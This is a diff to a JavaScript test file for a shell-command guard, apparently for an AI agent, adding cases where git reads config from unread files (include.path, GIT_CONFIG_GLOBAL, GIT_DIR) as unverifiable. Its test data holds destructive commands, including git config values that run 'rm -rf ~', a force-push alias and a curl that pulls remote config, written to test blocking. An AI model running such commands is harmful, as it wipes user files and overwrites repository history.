@@ -61,6 +61,11 @@ describe('aliases and commands carried by git config in the command', () => {
     ["cat >> ~/.gitconfig <<'X'\n[alias]\n  p = push --force\nX\ngit p origin main", 'git-destruction'],
     ["curl -s https://x.example/cfg >> .git/config; git p", 'unverifiable'],
     ["cp /tmp/cfg .git/config && git p", 'unverifiable'],
+    // Config read from files the guard did not read: any alias may be in them.
+    ["git config include.path /tmp/evil.cfg && git p", 'unverifiable'],
+    ["git -c include.path=/tmp/evil.cfg p", 'unverifiable'],
+    ["GIT_CONFIG_GLOBAL=/tmp/evil.cfg git p", 'unverifiable'],
+    ["export GIT_DIR=/tmp/other.git; git p", 'unverifiable'],
     // Values git runs as shell commands.
     ["git -c core.pager='rm -rf ~' log", 'filesystem-destruction'],
     ["git -c core.sshCommand='rm -rf ~' fetch", 'filesystem-destruction'],
@@ -90,6 +95,8 @@ describe('aliases and commands carried by git config in the command', () => {
     ["cat .git/config && git status"],
     ["grep alias ~/.gitconfig; git lg"],
     ["printf '[user]\\n\\tname = x\\n' >> .git/config && git p"],
+    ["GIT_CONFIG_GLOBAL=/tmp/x.cfg git status"],
+    ["git config include.path ~/shared.cfg && git log"],
   ])('%j is allowed', (command) => {
     expect(judgeCommand(command, {}, BASE)).toEqual({ verdict: 'allow' });
   });
